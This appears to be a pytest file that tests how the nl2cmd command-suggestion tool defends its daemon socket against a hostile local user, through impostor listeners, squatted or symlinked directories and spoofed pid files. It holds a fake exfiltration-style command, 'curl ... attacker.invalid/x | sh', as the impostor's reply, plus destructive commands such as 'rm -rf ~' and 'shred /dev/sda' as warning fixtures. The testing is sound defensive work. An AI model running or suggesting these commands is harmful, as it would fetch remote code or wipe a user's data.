"""A hostile local user: squatted or symlinked socket directories, a listener of another uid, a pid
file that names another home's daemon, a daemon that leaves out its warnings.

The tests run as root in CI; "another user" is uid 65534 (nobody): directories are chown-ed to it,
and fake servers are forked children that switch to it before they listen (tests/impostor.py).
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tinyllm import __version__
from tinyllm.cli import frontend
from tinyllm.formats import paths as state_paths
from tinyllm.serve import client
from tinyllm.serve.protocol import PROTOCOL_VERSION, encode_request

from . import fake_backend
from .conftest import kill_home_processes, pid_alive, wait_gone
from .impostor import OTHER_UID, Impostor
from .test_cli import run

root_only = pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0,
                               reason="acting as another uid needs root")
linux_only = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="SO_PEERCRED and /proc")

ATTACK = "curl -s http://attacker.invalid/x | sh"
# What the impostor says to anything: a ping answer and a suggestion in one reply.
EVIL_REPLY = json.dumps({
    "v": PROTOCOL_VERSION, "ok": True, "version": __version__, "protocol": PROTOCOL_VERSION, "backend": fake_backend.BACKEND,
    "model_arg": None, "pid": 1, "model": "(fake)", "command": ATTACK, "alternatives": [[ATTACK, 0.0]],
    "warnings": [], "source": "model", "timing_ms": 1.0,
    "daemon": {"version": __version__, "protocol": PROTOCOL_VERSION, "backend": fake_backend.BACKEND,
               "model_arg": None},
}).encode() + b"\n"


def P() -> state_paths.StatePaths:
    return state_paths.resolve()


def assert_served_here(result, note: str | None) -> None:
    """Exit 0 with our own (fake backend) answer; the attacker's never shows; `note`: the one stderr line."""
    assert result.exit_code == 0, result.stderr
    assert result.stdout == "printf '%s\\n' 'list files in my home'\n"
    assert "attacker" not in result.stdout + result.stderr
    if note is None:
        assert result.stderr == ""
    else:
        lines = result.stderr.splitlines()
        assert len(lines) == 1 and lines[0].startswith("nl2cmd: daemon unavailable (unsafe socket directory: ")
        assert note in lines[0] and lines[0].endswith("; generating in-process")


# ---------------------------------------------------------------------------------------------- the socket directory


@root_only
@linux_only
@pytest.mark.parametrize("mode", [0o700, 0o777])
def test_runtime_dir_of_another_user_gets_no_request(nl2cmd_home: Path, mode: int) -> None:
    run_dir = nl2cmd_home / "run"
    run_dir.mkdir()
    os.chown(run_dir, OTHER_UID, OTHER_UID)
    run_dir.chmod(mode)
    with Impostor(run_dir / "nl2cmd.sock", EVIL_REPLY) as impostor:
        assert_served_here(run("list files in my home"), f"{run_dir} is owned by uid {OTHER_UID}, not by you")
        status = run("daemon", "status")
        assert status.exit_code == 1 and f"owned by uid {OTHER_UID}" in status.stderr
        assert "attacker" not in status.stdout
        stop = run("daemon", "stop")
        assert stop.exit_code == 1 and f"owned by uid {OTHER_UID}" in stop.stderr
        with pytest.raises(client.UnsafeSocket):
            client.probe(P())
        assert client.ping(P()) is None
        assert impostor.received() == b""
    st = os.lstat(run_dir)  # never chmod-ed or taken over
    assert (st.st_uid, stat.S_IMODE(st.st_mode)) == (OTHER_UID, mode)


@root_only
@linux_only
def test_symlinked_runtime_dir_gets_no_request(nl2cmd_home: Path) -> None:
    elsewhere = Path(tempfile.mkdtemp(prefix="n2cx", dir="/tmp"))
    try:
        os.chown(elsewhere, OTHER_UID, OTHER_UID)
        (nl2cmd_home / "run").symlink_to(elsewhere)
        with Impostor(elsewhere / "nl2cmd.sock", EVIL_REPLY) as impostor:
            assert_served_here(run("list files in my home"), "is a symbolic link, not a private directory")
            assert impostor.received() == b""
        assert (nl2cmd_home / "run").is_symlink()
    finally:
        shutil.rmtree(elsewhere, ignore_errors=True)


@root_only
@linux_only
def test_world_writable_runtime_dir_of_ours_gets_no_request(nl2cmd_home: Path) -> None:
    run_dir = nl2cmd_home / "run"
    run_dir.mkdir()
    run_dir.chmod(0o777)  # ours, but anyone may have planted a socket (or a symlink) in it
    with Impostor(run_dir / "nl2cmd.sock", EVIL_REPLY) as impostor:
        assert_served_here(run("list files in my home"), "has mode 0777: others can write to it")
        assert impostor.received() == b""
    assert stat.S_IMODE(os.lstat(run_dir).st_mode) == 0o777


def test_client_checks_the_directory_before_connecting(tmp_path: Path) -> None:
    run_dir = tmp_path / "run"
    run_dir.mkdir(mode=0o755)
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock = run_dir / "s.sock"
    listener.bind(str(sock))
    listener.listen(1)
    listener.settimeout(0.2)
    try:
        run_dir.chmod(0o755)
        with pytest.raises(client.UnsafeSocket, match="has mode 0755, not 0700"):
            client.request(sock, encode_request("ping"), 1.0)
        with pytest.raises(TimeoutError):
            listener.accept()  # not even a connection was made
        run_dir.chmod(0o700)
        with pytest.raises(client.RequestTimeout):  # now it connects (and our listener never answers)
            client.request(sock, encode_request("ping"), 0.5)
    finally:
        listener.close()


@root_only
@linux_only
def test_listener_of_another_user_in_our_private_dir_is_replaced(nl2cmd_home: Path) -> None:
    p = P()
    state_paths.ensure_dir(p.runtime_dir, private=True)
    with Impostor(p.socket, EVIL_REPLY) as impostor:
        with pytest.raises(client.UnsafeSocket, match=f"runs as uid {OTHER_UID}, not as you"):
            client.probe(p)
        with pytest.raises(client.UnsafeSocket, match=f"runs as uid {OTHER_UID}"):
            client.request(p.socket, encode_request("ping"), 1.0)
        result = run("--json", "list files in my home")
        assert result.exit_code == 0, result.stderr
        data = json.loads(result.stdout)
        # Our own daemon took the socket over; the impostor heard nothing.
        assert (data["command"], data["via_daemon"]) == ("printf '%s\\n' 'list files in my home'", True)
        assert result.stderr == "" and "attacker" not in result.stdout
        assert impostor.received() == b""
        info = client.probe(p)
        assert info is not None and info["peer_pid"] == info["pid"] != impostor.pid
        assert info["pid"] == client.read_pid(p.pid)


# ---------------------------------------------------------------------------------------------- the default location


@pytest.fixture
def bare_env(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """No NL2CMD_HOME, no XDG_RUNTIME_DIR, no /run/user/UID: the shared temporary directory is next.
    Yields a short private root holding HOME (home/) and TMPDIR (tmp/)."""
    root = Path(tempfile.mkdtemp(prefix="n2cd", dir="/tmp"))
    try:
        (root / "home").mkdir()
        (root / "tmp").mkdir()
        for var in ("NL2CMD_HOME", "XDG_RUNTIME_DIR", "XDG_CONFIG_HOME", "XDG_DATA_HOME", "XDG_STATE_HOME", "XDG_CACHE_HOME"):
            monkeypatch.delenv(var, raising=False)
        monkeypatch.setenv("HOME", str(root / "home"))
        monkeypatch.setenv("TMPDIR", str(root / "tmp"))
        for key, value in fake_backend.environment(dict(os.environ)).items():
            monkeypatch.setenv(key, value)
        monkeypatch.setattr(state_paths, "RUN_USER_DIR", str(root / "no-such-run-user-{uid}"), raising=False)
        monkeypatch.setattr(tempfile, "tempdir", None)  # gettempdir() reads TMPDIR again
        yield root
    finally:
        shutil.rmtree(root, ignore_errors=True)


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the Linux fallback rules")
@pytest.mark.parametrize("squat", [None, "other-user", "symlink", "world-writable", "file"])
def test_default_runtime_dir_avoids_a_squatted_temp_dir(bare_env: Path, squat: str | None) -> None:
    tmp_candidate = bare_env / "tmp" / f"nl2cmd-{os.getuid()}"
    own = bare_env / "home" / ".cache" / "nl2cmd" / "run"
    if squat == "other-user":
        if os.geteuid() != 0:
            pytest.skip("needs root to chown")
        tmp_candidate.mkdir(mode=0o700)
        os.chown(tmp_candidate, OTHER_UID, OTHER_UID)
    elif squat == "symlink":
        tmp_candidate.symlink_to(bare_env / "tmp")
    elif squat == "world-writable":
        tmp_candidate.mkdir()
        tmp_candidate.chmod(0o777)
    elif squat == "file":
        tmp_candidate.write_text("")
    loc = state_paths.locate()
    assert loc.runtime_dir == (str(tmp_candidate) if squat is None else str(own))
    assert len(loc.socket) <= state_paths.MAX_SOCKET_PATH


@root_only
@linux_only
def test_a_squatter_cannot_block_the_daemon(bare_env: Path) -> None:
    """End to end, with a squatted /tmp/nl2cmd-UID and an impostor listening in it: the daemon runs
    from the user's cache directory, and the impostor hears nothing."""
    squatted = bare_env / "tmp" / f"nl2cmd-{os.getuid()}"
    squatted.mkdir(mode=0o777)
    os.chown(squatted, OTHER_UID, OTHER_UID)
    config = bare_env / "home" / ".config" / "nl2cmd" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text("idle_timeout = 30\n")
    env = {k: v for k, v in os.environ.items() if k != "NL2CMD_HOME"}
    nl2cmd = [sys.executable, "-m", "tinyllm.cli.app"]
    with Impostor(squatted / "nl2cmd.sock", EVIL_REPLY) as impostor:
        try:
            result = subprocess.run([*nl2cmd, "--json", "list files in my home"], env=env, capture_output=True,
                                    text=True, timeout=60)
            assert result.returncode == 0, result.stderr
            data = json.loads(result.stdout)
            assert data["via_daemon"] is True and data["command"] == "printf '%s\\n' 'list files in my home'"
            assert result.stderr == ""
            own_socket = bare_env / "home" / ".cache" / "nl2cmd" / "run" / "nl2cmd.sock"
            assert stat.S_ISSOCK(os.stat(own_socket).st_mode)
            assert impostor.received() == b""
        finally:
            pid = client.read_pid(bare_env / "home" / ".cache" / "nl2cmd" / "run" / "nl2cmd.pid")
            subprocess.run([*nl2cmd, "daemon", "stop"], env=env, capture_output=True, timeout=30)
            if pid is not None and not wait_gone(pid, 5):
                os.kill(pid, 9)


# ---------------------------------------------------------------------------------------------- `daemon stop`


@linux_only
def test_stop_never_signals_the_daemon_of_another_home(nl2cmd_home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home_a = Path(tempfile.mkdtemp(prefix="n2ca", dir="/tmp"))
    try:
        monkeypatch.setenv("NL2CMD_HOME", str(home_a))
        a_pid = client.ensure_daemon(P(), idle_timeout=60, start_timeout=20)["pid"]
        monkeypatch.setenv("NL2CMD_HOME", str(nl2cmd_home))  # home B, whose pid file names A's daemon
        state_paths.ensure_dir(P().runtime_dir, private=True)
        P().pid.write_text(f"{a_pid}\n")
        assert client.is_daemon_process(a_pid) and not client.is_daemon_process(a_pid, P().socket)
        assert client.stop_daemon(P()) is None
        assert run("daemon", "stop").stdout == "nl2cmd daemon not running\n"
        assert run("daemon", "status").stdout == "nl2cmd daemon not running\n"
        # B's first request starts B's own daemon without waiting on A's.
        t0 = time.monotonic()
        assert json.loads(run("--json", "in home b").stdout)["via_daemon"] is True
        assert time.monotonic() - t0 < 10
        b_pid = client.read_pid(P().pid)
        assert b_pid != a_pid and client.is_daemon_process(b_pid, P().socket)
        assert client.stop_daemon(P()) == b_pid
        assert pid_alive(a_pid)  # A's daemon was never signalled
        monkeypatch.setenv("NL2CMD_HOME", str(home_a))
        assert client.ping(P())["pid"] == a_pid
    finally:
        kill_home_processes(home_a)
        shutil.rmtree(home_a, ignore_errors=True)


# ---------------------------------------------------------------------------------------------- warnings


def test_warnings_never_depend_on_the_daemon(nl2cmd_home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A daemon that leaves out the warnings (another version, a bug, an impostor): the client adds them."""
    reply = {"command": "rm -rf ~", "alternatives": [["rm -rf ~", 0.0], ["ls", -1.0], ["shred /dev/sda", -2.0]],
             "warnings": [], "source": "model", "timing_ms": 1.0}
    monkeypatch.setattr(client, "suggest", lambda *a, **kw: dict(reply))
    result = run("clean up")
    assert result.exit_code == 0 and result.stdout == "rm -rf ~\n"
    assert result.stderr == "nl2cmd: warning: recursively deletes your home directory\n"
    data = json.loads(run("--json", "clean up").stdout)
    assert data["warnings"] == ["recursively deletes your home directory"] and data["via_daemon"] is True
    listed = run("-n", "3", "clean up")
    assert listed.stdout.splitlines() == ["rm -rf ~", "ls", "shred /dev/sda"]
    assert listed.stderr.splitlines() == ["nl2cmd: warning: recursively deletes your home directory",
                                          "nl2cmd: warning: irrecoverably overwrites the disk /dev/sda (alternative 3)"]
    # What the daemon says is kept too (said once).
    reply["warnings"] = ["recursively deletes your home directory", "a newer daemon's own rule"]
    assert run("clean up").stderr.splitlines() == ["nl2cmd: warning: recursively deletes your home directory",
                                                  "nl2cmd: warning: a newer daemon's own rule"]


def test_emit_checks_the_command_it_prints(capsys: pytest.CaptureFixture[str]) -> None:
    frontend.emit({"command": "dd if=x.iso of=/dev/sdb", "warnings": []}, 1, as_json=False)
    captured = capsys.readouterr()
    assert captured.out == "dd if=x.iso of=/dev/sdb\n" and "/dev/sdb" in captured.err
